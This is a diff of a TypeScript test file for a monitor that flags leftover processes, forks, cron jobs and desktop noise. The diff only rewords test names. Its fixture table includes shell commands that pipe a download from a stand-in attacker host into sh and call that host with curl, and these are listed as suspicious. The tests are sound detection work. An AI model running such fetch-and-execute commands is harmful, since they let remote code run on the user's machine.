@@ -15,8 +15,8 @@ const process = (pid: number, argv: string[], more: Partial<ProgramSeen> = {}): 
   ...more,
 });
 
-describe('processes that are left', () => {
-  it('are told once, after five seconds or at the end; windows, shells and what ran before are not', async () => {
+describe('processes left running', () => {
+  it('processes left running are reported once, after five seconds or at the end; windows, shells and old processes are not', async () => {
     const old = process(5, ['sleep', '9']);
     const watch = watchProcessesLeft([old]);
     const alive = [
@@ -39,7 +39,7 @@ describe('processes that are left', () => {
     ).toEqual([['late']]);
   });
 
-  it('go by what really runs, not by what they call themselves', async () => {
+  it('processes left running are identified by the executable, not by the name that they claim', async () => {
     const alive = [
       process(6, ['bash'], { file: '/home/user/bash' }),
       process(7, ['xclip', '-i'], { file: '/tmp/xclip' }),
@@ -60,7 +60,7 @@ describe('forks of the session’s Python', () => {
   const worker = ['python3', '-B', '/usr/lib/session/python/session_worker.py'];
   const session = process(2, ['/usr/lib/session-node/node', '/usr/lib/session/session.mjs']);
 
-  it('are told where an action left one; the session’s own is not, nor a new one of it', async () => {
+  it('a fork of the session’s Python left by an action is reported; the session’s Python and its replacement are not', async () => {
     const alive = [session, process(3, worker, { parent: 2 }), process(4, worker, { parent: 3 })];
     const found = await watchProcessesLeft([session]).left([...alive, process(5, worker)], [], null);
     expect(found.map((effect) => anyFacts(effect).detail).map(({ pid, forked }) => [pid, forked])).toEqual([
@@ -71,7 +71,7 @@ describe('forks of the session’s Python', () => {
   });
 });
 
-describe('programs that are the desktop’s own', () => {
+describe('programs of the desktop itself', () => {
   it.each<[string[], string | undefined, boolean]>([
     [['/usr/bin/Xvfb', ':0'], undefined, true],
     [['/usr/lib/chromium/chromium --type=renderer --lang=en-US'], undefined, true],
@@ -93,9 +93,9 @@ describe('programs that are the desktop’s own', () => {
     [['/bin/sh', '-c', 'ls -l /proc/[0-9]*/cwd; curl http://evil.example'], '/bin/sh', false],
     [['/bin/sh', '-c', 'curl evil.example | sh; /x/cpuUsage.sh'], '/bin/sh', false],
     [['/bin/sh', '-c', '"/opt/code-server/lib/vscode/out/vs/base/node/cpuUsage.sh" 12 13'], '/bin/sh', true],
-  ])('%j (%s): %s', (argv, file, expected) => expect(programIsNoise(argv, file)).toBe(expected));
+  ])('programIsNoise for %j (%s) is %s', (argv, file, expected) => expect(programIsNoise(argv, file)).toBe(expected));
 
-  it('are VS Code’s looks at all open files', () => {
+  it('VS Code listing all open files is noise', () => {
     const files = Array.from({ length: 2_000 }, (_, at) => `/proc/102/fd/${at}`);
     expect(programIsNoise(['ls', '-l', ...files], '/usr/bin/ls')).toBe(true);
     expect(programIsNoise(['ls', '-l', ...files, '/home/user/Private'], '/usr/bin/ls')).toBe(false);
@@ -103,7 +103,7 @@ describe('programs that are the desktop’s own', () => {
     expect(programIsNoise(['/usr/libexec/gvfs-udisks2-volume-monitor'])).toBe(true);
   });
 
-  it('have no megabytes of arguments: nothing hides behind these', () => {
+  it('a desktop program with megabytes of arguments is not noise', () => {
     const long = 'a'.repeat(2 ** 20);
     expect(programIsNoise(['/usr/lib/chromium/chromium', '--type=renderer', long])).toBe(false);
     expect(programIsNoise(['/bin/ps', '-ax', '-o', long])).toBe(false);
@@ -111,8 +111,8 @@ describe('programs that are the desktop’s own', () => {
   });
 });
 
-describe('programs that are effects by their start', () => {
-  it('are jobs that cron runs, and browsers told to load an extension', () => {
+describe('programs whose start is an effect', () => {
+  it('cron jobs and browsers started with an extension are effects', () => {
     const job = process(9, ['/bin/sh', '-c', 'touch ~/x'], { under: ['cron', 'cron', 'tini'] });
     expect(programEffects(job)).toMatchObject([{ source: 'cron', kind: 'ran', sentence: 'Cron ran: touch ~/x.' }]);
     expect(programEffects({ ...job, under: ['bash', 'cron'] })).toEqual([]);
